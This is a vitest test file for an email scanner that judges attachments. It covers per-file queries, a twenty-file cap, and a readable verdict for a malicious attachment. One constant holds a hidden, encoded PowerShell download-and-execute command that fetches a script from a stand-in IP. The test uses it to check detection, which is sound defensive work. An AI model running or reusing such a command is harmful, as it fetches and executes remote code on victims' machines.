import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { examineMail } from "@cordon/engine/mail/examine";
import { NO_CONTEXT } from "@cordon/engine/mail/mail-facts";
import { parseMessage } from "@cordon/engine/mail/parse-message";
import { sha256Of } from "@cordon/model/ids";
import { describe, expect, it } from "vitest";
import { loadConfig } from "../config.ts";
import type { FilePool } from "./file-pool.ts";
import { type ExaminedMail, openMailExaminer } from "./mail.ts";
import { judgeAttached } from "./mail-files.ts";

const hash = (bytes: Uint8Array) => sha256Of(createHash("sha256").update(bytes).digest("hex"));
const SCRIPT =
  'powershell -w hidden -enc AAAA; IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.7/a.ps1")';

function mail(parts: readonly (readonly [name: string, text: string])[]): Uint8Array {
  const head = "From: ann@example.com\r\nTo: bob@example.org\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n";
  const bodies = parts.map(
    ([name, text]) =>
      `--b\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(text).toString("base64")}\r\n`,
  );
  return Buffer.from(
    `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n${bodies.join("")}--b--\r\n`,
  );
}

function poolOf(
  answer: (name: string) => Awaited<ReturnType<FilePool["examine"]>>,
): Pick<FilePool, "examine"> & { asked: string[] } {
  const asked: string[] = [];
  return {
    asked,
    async examine(name) {
      asked.push(name);
      return answer(name);
    },
  };
}

async function judged(bytes: Uint8Array, pool: Pick<FilePool, "examine">) {
  const judgeFile = await judgeAttached(pool, bytes, hash);
  return examineMail(parseMessage(bytes), hash, { ...NO_CONTEXT, judgeFile });
}

describe("judgeAttached", () => {
  it("asks once per file, and a full queue does not keep a mail from being judged (MF1)", async () => {
    const pool = poolOf(() => {
      throw new Error("64 files wait");
    });
    const found = await judged(
      mail([
        ["a.bin", "one"],
        ["b.bin", "two"],
      ]),
      pool,
    );
    expect(pool.asked).toEqual(["a.bin", "b.bin"]);
    expect(found.reasons.map(({ id }) => id)).not.toContain("file-malicious");
  });

  it("asks about the first twenty only (MF2)", async () => {
    const pool = poolOf(() => ({ reason: "busy" }));
    await judged(mail(Array.from({ length: 30 }, (_, at) => [`${at}.bin`, `text ${at}`] as const)), pool);
    expect(pool.asked).toHaveLength(20);
  });

  it("asks nothing about a mail without files", async () => {
    const pool = poolOf(() => ({}));
    await judged(Buffer.from("From: a@b.example\r\n\r\nhello"), pool);
    expect(pool.asked).toEqual([]);
  });
});

describe("mail examine", () => {
  it("says what speaks against an attachment, in words", async () => {
    const folder = mkdtempSync(join(tmpdir(), "cordon-mail-files-"));
    const path = join(folder, "one.eml");
    writeFileSync(path, mail([["notes.ps1", SCRIPT]]));
    const examiner = openMailExaminer(loadConfig({}));
    const mails: ExaminedMail[] = [];
    for await (const read of examiner.examine(path)) mails.push(...read.mails);
    const [found] = mails;
    examiner.close();
    rmSync(folder, { recursive: true });
    const reason = found?.examination.reasons.find(({ id }) => id === "file-malicious" || id === "file-suspicious");
    expect(reason?.words).toMatch(/notes\.ps1: .*downloads/);
  });
});
